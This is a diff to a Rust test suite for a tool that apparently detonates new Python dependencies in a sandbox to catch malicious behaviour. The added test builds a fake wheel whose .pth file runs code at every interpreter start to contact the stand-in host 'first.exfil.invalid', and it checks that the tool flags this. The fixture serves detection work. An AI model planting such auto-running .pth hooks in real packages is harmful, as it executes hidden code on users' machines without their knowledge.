@@ -26,15 +26,23 @@ const BIN: &str = env!("CARGO_BIN_EXE_turncoat");
 /// A wheel of project `demo_pkg` at `version` with `files` (path, text) besides its
 /// `.dist-info` (METADATA, WHEEL, RECORD).
 fn wheel(version: &str, files: &[(&str, &str)]) -> Vec<u8> {
+    wheel_of("demo_pkg", version, files)
+}
+
+/// A wheel of `project` (its file-name spelling) at `version`.
+fn wheel_of(project: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
     let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    let info = format!("demo_pkg-{version}.dist-info");
+    let info = format!("{project}-{version}.dist-info");
     let mut all: Vec<(String, String)> = files
         .iter()
         .map(|(p, d)| ((*p).to_string(), (*d).to_string()))
         .collect();
     all.push((
         format!("{info}/METADATA"),
-        format!("Metadata-Version: 2.1\nName: demo-pkg\nVersion: {version}\n"),
+        format!(
+            "Metadata-Version: 2.1\nName: {}\nVersion: {version}\n",
+            project.replace('_', "-")
+        ),
     ));
     all.push((
         format!("{info}/WHEEL"),
@@ -508,4 +516,77 @@ fn python_lockfiles_are_detonated_release_by_release() {
     let tf = pkg("tinyfmt");
     assert_eq!(tf["verdict"], "pass", "{r}");
     assert!(tf["detonation"]["stages"].is_array(), "{r}");
+}
+
+/// A newly added dependency whose only release is its first: nothing to compare with, so
+/// detonation reports all it does. Its `.pth` resolves a name at every interpreter start.
+#[test]
+fn a_first_release_is_detonated_alone() {
+    if !ready("first_release") {
+        return;
+    }
+    use sha2::Digest as _;
+    let w = World::new();
+    let mirror = w.dir.path().join("mirror");
+    std::fs::create_dir_all(mirror.join("files")).expect("mkdir");
+    std::fs::create_dir_all(mirror.join("simple/firstpkg")).expect("mkdir");
+    let file = "firstpkg-1.0.0-py3-none-any.whl";
+    let pth = "import socket; exec(\"try:\\n socket.getaddrinfo('first.exfil.invalid', 443)\\nexcept Exception:\\n pass\")\n";
+    let bytes = wheel_of(
+        "firstpkg",
+        "1.0.0",
+        &[("firstpkg/__init__.py", "X = 1\n"), ("firstpkg.pth", pth)],
+    );
+    std::fs::write(mirror.join("files").join(file), &bytes).expect("write");
+    let sha: String = sha2::Sha256::digest(&bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let page = serde_json::json!({"meta": {"api-version": "1.1"}, "name": "firstpkg", "files": [{
+        "filename": file, "url": format!("../../files/{file}"), "hashes": {"sha256": sha},
+        "upload-time": "2026-12-01T00:00:00Z"}]});
+    std::fs::write(mirror.join("simple/firstpkg/index.json"), page.to_string()).expect("write");
+    let base = w.write("base-requirements.txt", b"");
+    let head = w.write(
+        "requirements.txt",
+        format!("firstpkg==1.0.0 --hash=sha256:{sha}\n").as_bytes(),
+    );
+    let index = format!("file://{}/simple/", mirror.display());
+    let out = Command::new(BIN)
+        .arg("diff")
+        .arg(&base)
+        .arg(&head)
+        .args([
+            "--index-url",
+            &index,
+            "--detonate",
+            "--format",
+            "json",
+            "--quiet",
+        ])
+        .arg("--cache-dir")
+        .arg(w.dir.path().join("cache"))
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", w.dir.path().join("home"))
+        .env("TMPDIR", w.dir.path().join("tmp"))
+        .stdin(Stdio::null())
+        .output()
+        .expect("run turncoat diff");
+    let r = format!(
+        "\n--- stdout\n{}\n--- stderr\n{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(out.status.code(), Some(1), "{r}");
+    let pkg = the_package(&out, &r);
+    assert_eq!(pkg["change"], "added", "{r}");
+    let net = detonation_finding(&pkg, "detonation-network")
+        .unwrap_or_else(|| panic!("no detonation-network{r}"));
+    assert_eq!(
+        stage_of(net, "first.exfil.invalid").as_deref(),
+        Some("detonation:interpreter-start"),
+        "{r}"
+    );
+    assert!(pkg["detonation"]["previous"].is_null(), "{r}");
 }
